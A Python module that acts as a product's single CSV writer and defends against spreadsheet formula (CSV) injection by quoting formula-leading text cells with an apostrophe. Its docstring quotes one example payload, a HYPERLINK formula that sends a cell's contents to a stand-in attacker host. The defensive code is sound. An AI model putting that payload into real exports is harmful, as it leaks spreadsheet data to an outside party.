"""The one CSV writer for everything the product emits: FOCUS export, `audit --csv`, dashboard downloads.

A spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a formula
(OWASP "CSV injection"): a model named `=HYPERLINK("http://evil.example/?d="&A1,...)` would leak
the sheet. Every text cell that starts so is written with a leading apostrophe, which spreadsheets
take as "this is text"; numbers (typed, or text that is exactly a number) are left as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any, TextIO

import polars as pl

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """A value ready for a CSV cell: formula-leading text quoted with an apostrophe, numbers and dates as they are."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _NUMBER.match(text):
        return "'" + text
    return text


def write_rows(fh: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write a header and rows through `safe_cell`; returns the number of rows written."""
    writer = csv.writer(fh, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    n = 0
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
        n += 1
    return n


def write_dicts(fh: TextIO, fieldnames: Sequence[str], rows: Iterable[dict[str, Any]]) -> int:
    """Write dict rows in `fieldnames` order (missing keys empty) through `safe_cell`."""
    return write_rows(fh, fieldnames, ([row.get(f) for f in fieldnames] for row in rows))


def frame_csv(frame: pl.DataFrame) -> bytes:
    """A frame as formula-safe UTF-8 CSV bytes (with a BOM, so Excel reads the encoding right)."""
    buffer = io.StringIO()
    write_rows(buffer, frame.columns, frame.iter_rows())
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
